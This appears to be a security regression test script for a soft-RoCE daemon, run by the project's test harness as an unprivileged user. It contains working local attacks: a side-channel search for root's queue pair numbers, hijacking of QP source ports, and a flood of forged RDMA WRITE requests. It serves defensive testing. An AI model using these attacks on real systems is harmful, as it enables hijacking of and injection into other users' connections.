#!/usr/bin/env python3
# What another local user can try against root's live RoCE connections
# (issue 41), run by t_security.sh as that user (mallory).  Each command
# does only what any unprivileged user can: read /proc/net/udp, ask the
# daemon for STATUS, send UDP datagrams from ports of her own.
#
#   find-qpn [PROBES]   the attack of issue 41: the QPN candidates the UDP
#                       ports of /proc/net/udp give (a port once was 0xC000
#                       + a hash of the QPN), halved by probes, each one
#                       batch of datagrams and a look at everything her
#                       STATUS shows.  Prints "found QPN" or "not found".
#   bind-ports          binds the UDP ports root's QPs send from (the
#                       ports >= 0xC000 of /proc/net/udp), with SO_REUSEADDR
#                       and with SO_REUSEPORT, on 0.0.0.0 and 127.0.0.1.
#                       Prints each bind that worked; exit 1 if any did.
#   flood QPN PSN RATE SECONDS
#                       forged RC RDMA WRITE_ONLY requests (no payload,
#                       correct ICRC) to QPN with PSNs from PSN on, RATE a
#                       second, from 127.0.0.1 (the victim's peer address).
#                       Prints the rate reached.
# Standard library only.
import socket
import struct
import sys
import time

from sr_ipc import Client, icrc

IP_MTU_DISCOVER, IP_PMTUDISC_DO = 10, 2  # DF: IPv4 ID 0, as the ICRC here assumes
QPN_FIRST, QPN_LAST = 0x11, 0xffffff
K = 0x61C88647  # the multiplier of the hash ports were made from
K_INV = pow(K, -1, 1 << 32)


def proc_udp():
    """(local port, remote port, connected) of every IPv4 and IPv6 UDP socket."""
    out = []
    for f in ("/proc/net/udp", "/proc/net/udp6"):
        try:
            lines = open(f).read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            w = line.split()
            lp, rp = int(w[1].split(":")[1], 16), int(w[2].split(":")[1], 16)
            out.append((lp, rp, w[3] == "01"))
    return out


def qp_ports():
    """The ports QPs seem to send from: the peers of flow sockets (connected,
    local port 4791) and the unconnected sockets on 0xC000 and up."""
    ports = set()
    for lp, rp, conn in proc_udp():
        if conn and lp == 4791 and rp:
            ports.add(rp)
        elif not conn and lp >= 0xC000:
            ports.add(lp)
    return sorted(ports)


def candidates(port):
    """The QPNs whose old source port (0xC000 + hash, 14 bits) is port."""
    h = port - 0xC000
    if not 0 <= h < 1 << 14:
        return []
    out = []
    for x in range(h << 18, (h + 1) << 18):
        q = (x * K_INV) & 0xffffffff
        if QPN_FIRST <= q <= QPN_LAST:
            out.append(q)
    return out


def probe_dgram(q):
    """A UD SEND_ONLY to QPN q: routed by the daemon to whoever owns q."""
    return bytes([0x64, 0, 0xff, 0xff, 0, (q >> 16) & 255, (q >> 8) & 255, q & 255, 0, 0, 0, 0]) + bytes(12)


class Prober:
    def __init__(self, limit):
        self.c = Client()
        self.u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.limit, self.probes, self.dgrams = limit, 0, 0

    def view(self):
        return [line for line in self.c.status().splitlines() if not line.startswith("uptime ")]

    def hits(self, qs):
        """One probe: a datagram to each of qs; did anything she can see
        change that does not change by itself (as it did not a moment
        before)?"""
        self.probes += 1
        b0 = self.view()
        time.sleep(0.05)
        b1 = self.view()
        for q in qs:
            self.u.sendto(probe_dgram(q), ("127.0.0.1", 4791))
        self.dgrams += len(qs)
        time.sleep(0.05)
        a = self.view()
        if len(b0) != len(b1) or len(b1) != len(a):
            return False  # a line came or went by itself: ask again another time
        return any(x == y != z for x, y, z in zip(b0, b1, a))

    def left(self):
        return self.probes < self.limit


def find_qpn(limit):
    p = Prober(limit)
    ports = qp_ports()
    print("ports of /proc/net/udp that look like QP source ports: %s" % ports)
    for port in ports:
        cand = candidates(port)
        while len(cand) > 1 and p.left():
            half = cand[:len(cand) // 2]
            cand = half if p.hits(half) else cand[len(cand) // 2:]
        # a hit must come again: her own counters (CM wills of her dead
        # processes, say) may move by themselves
        if cand and all(p.left() and p.hits(cand) for _ in range(3)):
            print("found %#x (port %d) after %d probes, %d datagrams" % (cand[0], port, p.probes, p.dgrams))
            return 0
        if not p.left():
            break
    print("not found after %d probes, %d datagrams" % (p.probes, p.dgrams))
    return 0


def bind_ports():
    bound = 0
    ports = qp_ports()
    print("ports of /proc/net/udp that look like QP source ports: %s" % ports)
    for port in ports:
        for addr in ("0.0.0.0", "127.0.0.1"):
            for opt, name in ((socket.SO_REUSEADDR, "SO_REUSEADDR"), (socket.SO_REUSEPORT, "SO_REUSEPORT")):
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.setsockopt(socket.SOL_SOCKET, opt, 1)
                try:
                    s.bind((addr, port))
                    print("bound %s:%d with %s" % (addr, port, name))
                    bound += 1
                except OSError:
                    pass
                s.close()
    print("%d binds of %d ports worked" % (bound, len(ports)))
    return 1 if bound else 0


def write_only(qpn, psn, sport):
    p = bytes([0x0A, 0, 0xff, 0xff, 0, (qpn >> 16) & 255, (qpn >> 8) & 255, qpn & 255, 0x80, (psn >> 16) & 255,
               (psn >> 8) & 255, psn & 255]) + struct.pack(">QII", 0, 0, 0) + bytes(4)
    return p[:-4] + struct.pack("<I", icrc(p, "127.0.0.1", "127.0.0.1", sport))


def flood(qpn, psn, rate, secs):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DO)
    s.bind(("127.0.0.1", 0))
    sport = s.getsockname()[1]
    pkts = [write_only(qpn, (psn + i) & 0xffffff, sport) for i in range(1024)]
    n, t0 = 0, time.time()
    while True:
        now = time.time()
        if now - t0 >= secs:
            break
        due = min(int((now - t0) * rate), n + 1000)
        while n < due:
            try:
                s.sendto(pkts[n & 1023], ("127.0.0.1", 4791))
            except OSError:
                pass  # ENOBUFS: the rate reached says so
            n += 1
        time.sleep(0.001)
    dt = time.time() - t0
    print("flood: %d datagrams in %.1f s, %.0f a second" % (n, dt, n / dt))
    return 0


def main():
    cmd = sys.argv[1]
    if cmd == "find-qpn":
        return find_qpn(int(sys.argv[2]) if len(sys.argv) > 2 else 1000)
    if cmd == "bind-ports":
        return bind_ports()
    if cmd == "flood":
        return flood(int(sys.argv[2], 0), int(sys.argv[3], 0), float(sys.argv[4]), float(sys.argv[5]))
    print("usage: security_attack.py find-qpn [PROBES] | bind-ports | flood QPN PSN RATE SECONDS", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
